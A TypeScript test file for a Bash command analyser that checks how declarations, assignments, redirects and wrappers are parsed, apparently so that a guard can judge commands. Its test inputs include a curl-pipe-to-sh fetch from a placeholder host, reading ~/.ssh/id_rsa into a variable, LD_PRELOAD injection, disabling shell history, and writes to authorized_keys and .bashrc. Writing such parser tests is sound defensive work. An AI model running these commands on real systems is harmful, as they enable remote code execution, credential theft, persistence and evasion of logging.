import { beforeAll, describe, expect, it } from 'vitest';
import type { Parser } from 'web-tree-sitter';
import { analyseShell } from './analyse.js';
import { loadBashParser } from './load-grammar.js';

let parser: Parser;
beforeAll(async () => { parser = await loadBashParser(); });

const found = (line: string) => analyseShell(parser, line).commands.map((c) => ({ binary: c.binary, argv: c.argv.map((w) => `${w.kind === 'dynamic' ? '?' : ''}${w.text}`), redirects: c.redirects }));

describe('declaration builtins', () => {
  it.each([
    ["export FOO='bar'", ['export', 'FOO=bar']],
    ['export "LD_PRELOAD=/tmp/x.so"', ['export', 'LD_PRELOAD=/tmp/x.so']],
    ['declare -x A="1" B', ['declare', '-x', 'A=1', 'B']],
    ["readonly X='a'", ['readonly', 'X=a']],
    ['local -r Y="b"', ['local', '-r', 'Y=b']],
    ['unset "HISTFILE"', ['unset', 'HISTFILE']],
    ["unset -v 'A' B", ['unset', '-v', 'A', 'B']],
    ['export EMPTY=', ['export', 'EMPTY=']],
  ])('%s is the command %j', (line, argv) => {
    expect(found(line)).toEqual([{ binary: argv[0], argv, redirects: [] }]);
  });

  it('reads them the same with or without quotes (the plain-word split and the grammar agree)', () => {
    expect(found('export FOO=bar')).toEqual(found("export FOO='bar'"));
    expect(found('unset HISTFILE')).toEqual(found('unset "HISTFILE"'));
  });

  it('keeps a value known only at run time one word, and still finds commands inside it', () => {
    const commands = found('export X="$(curl -s https://x.example/p | sh)"');
    expect(commands[0]).toEqual({ binary: 'export', argv: ['export', '?X="$(curl -s https://x.example/p | sh)"'], redirects: [] });
    expect(commands.map((c) => c.binary).filter((b) => b !== null)).toEqual(['export', 'curl', 'sh']);
  });
});

describe('a redirect with no command', () => {
  it('is the null command writing its target, as `: > file` is', () => {
    expect(found('> out.log')).toEqual([{ binary: ':', argv: [':'], redirects: [{ op: '>', target: 'out.log' }] }]);
    expect(found('>> ~/.bashrc; echo "x"').map((c) => c.redirects)).toEqual([[{ op: '>>', target: '~/.bashrc' }], []]);
  });
});

describe('redirect targets under $HOME', () => {
  it.each([
    ['echo x > $HOME/.bashrc', '~/.bashrc'],
    ['echo x >> ${HOME}/.ssh/authorized_keys', '~/.ssh/authorized_keys'],
    ['echo x > "$HOME/.profile"', '~/.profile'],
    ['echo x > "${HOME}"/.zshrc', '~/.zshrc'],
    ['echo x > $HOME', '~'],
  ])('%s writes %s', (line, target) => {
    expect(found(line)[0]?.redirects).toEqual([{ op: line.includes('>>') ? '>>' : '>', target }]);
  });

  it.each(['echo x > $HOMEDIR/a', 'echo x > "$HOME/$NAME"', 'echo x > ${HOME:-/tmp}/a', 'echo x > $HOME/*.sh', 'echo x > "$HOME"/`id`'])('%s stays unknown', (line) => {
    expect(found(line)[0]?.redirects[0]?.target).toBeNull();
  });

  it('leaves a quoted $HOME literal', () => {
    expect(found("echo x > '$HOME/a'")[0]?.redirects).toEqual([{ op: '>', target: '$HOME/a' }]);
  });
});

describe('assignments before a command or on their own', () => {
  const all = (line: string) => analyseShell(parser, line).commands.map((c) => ({ binary: c.binary, argv: c.argv.map((w) => `${w.kind === 'dynamic' ? '?' : ''}${w.text}`), via: c.via, neutral: c.neutral }));

  it.each([
    ['LD_PRELOAD=/tmp/x.so ssh host', ['env', 'LD_PRELOAD=/tmp/x.so'], ['ssh', 'host']],
    ['GIT_SSL_NO_VERIFY=1 A="b c" git clone https://git.example.com/r.git', ['env', 'GIT_SSL_NO_VERIFY=1', 'A=b c'], ['git', 'clone', 'https://git.example.com/r.git']],
    ["HISTFILE='/dev/null' bash", ['env', 'HISTFILE=/dev/null'], ['bash']],
    ['X= make', ['env', 'X='], ['make']],
  ])('%s hands the program its variables as env does, and the program is still reported as written', (line, env, argv) => {
    expect(all(line)).toEqual([
      { binary: 'env', argv: env, via: [], neutral: true },
      { binary: argv[0], argv, via: [], neutral: false },
    ]);
  });

  it('judges the program as before: a force push stays a force push', () => {
    const git = all('X=1 git push --force').find((c) => c.binary === 'git');
    expect(git).toEqual({ binary: 'git', argv: ['git', 'push', '--force'], via: [], neutral: false });
  });

  it.each([
    ['HISTFILE=/dev/null', [['env', 'HISTFILE=/dev/null']]],
    ['HISTSIZE=0 HISTFILESIZE=0', [['env', 'HISTSIZE=0', 'HISTFILESIZE=0']]],
    ['A=1 && B=2; (C=3)', [['env', 'A=1'], ['env', 'B=2'], ['env', 'C=3']]],
    ['f() { HISTFILE=; }', [['env', 'HISTFILE=']]],
  ])('a line of bare assignments %s is reported as the assignments it makes', (line, argvs) => {
    expect(all(line).map((c) => c.argv)).toEqual(argvs);
  });

  it('keeps a value known only at run time one word, and still finds the commands inside it', () => {
    const commands = all('TOKEN="$(cat ~/.ssh/id_rsa)" make');
    expect(commands[0]).toEqual({ binary: 'env', argv: ['env', '?TOKEN="$(cat ~/.ssh/id_rsa)"'], via: [], neutral: true });
    expect(commands.map((c) => c.binary)).toEqual(['env', 'make', 'cat']);
  });

  it('keeps the redirects of a bare assignment: they still open their files', () => {
    const commands = analyseShell(parser, 'HISTFILE=/dev/null > ~/.bash_history').commands;
    expect(commands.map((c) => [c.argv.map((w) => w.text), c.redirects])).toEqual([
      [['env', 'HISTFILE=/dev/null'], []],
      [[':'], [{ op: '>', target: '~/.bash_history' }]],
    ]);
  });

  it.each([
    ['sudo LD_PRELOAD=/tmp/x.so ls', ['sudo', 'LD_PRELOAD=/tmp/x.so', 'ls'], ['sudo']],
    ['time HISTFILE= bash', ['time', 'HISTFILE=', 'bash'], ['time']],
  ])('%s: the variables a wrapper hands its command are carried as env does', (line, outer, via) => {
    expect(all(line)).toEqual([
      { binary: outer[0], argv: outer, via: [], neutral: outer[0] === 'time' },
      { binary: 'env', argv: ['env', outer[1]], via: [], neutral: true },
      { binary: outer[2], argv: [outer[2]], via, neutral: false },
    ]);
  });

  it('env shows its variables in its own words, once', () => {
    expect(all('env X=1 ls').map((c) => c.argv)).toEqual([['env', 'X=1', 'ls'], ['ls']]);
  });

  it('does not report the assignments of a declaration twice', () => {
    expect(all('export A=1; local B=2').map((c) => c.binary)).toEqual(['export', 'local']);
  });
});
